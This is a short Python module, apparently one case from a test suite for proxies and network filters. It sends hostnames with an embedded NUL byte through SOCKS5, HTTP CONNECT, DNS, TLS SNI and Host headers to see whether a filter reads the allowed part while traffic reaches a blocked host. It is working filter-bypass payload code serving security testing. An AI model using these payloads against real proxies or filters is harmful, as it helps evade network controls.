# SPDX-License-Identifier: Apache-2.0
"""A name that one parser reads to its end and another one to the NUL."""
import socket

import dns
import tls
from bypass import get

TITLE = "NUL inside a name: SOCKS, CONNECT, DNS, SNI, Host"
THREAT = "1"


def attack(c):
    if c.proxy:
        with c.step("SOCKS5 domain name") as token:
            with c.proxy.connect_socks(b"evil.test\0.ok.test", 80) as s:
                c.talk(s, get("evil.test", f"/{token}"))
        with c.step("CONNECT") as token:
            with c.proxy.connect_http(b"evil.test\0.ok.test:80") as s:
                c.talk(s, get("evil.test", f"/{token}"))
        with c.step("CONNECT, the name last") as token:
            with c.proxy.connect_http(b"ok.test\0.evil.test:80") as s:
                c.talk(s, get("evil.test", f"/{token}"))
        return
    server = c.resolver()
    with c.step("DNS label") as token:
        c.udp(server or c.e, 53, dns.query([token.encode() + b"\0", b"ok", b"test"]))
    with c.step("DNS, the whole name in one label") as token:
        c.udp(server or c.e, 53, dns.query([token.encode() + b".evil.test\0.ok", b"test"]))
    with c.step("server name") as token:
        c.send("ok.test", 443, tls.client_hello(f"sib-{token}.test\0.ok.test"))
    with c.step("server name, allowed first") as token:
        c.send("ok.test", 443, tls.client_hello(f"ok.test\0.sib-{token}.test"))
    with c.step("Host") as token:
        c.send("ok.test", 80, get(f"sib-{token}.test\0.ok.test", "/"))
    with c.step("Host, allowed first") as token:
        c.send("ok.test", 80, get(f"ok.test\0.sib-{token}.test", "/"))
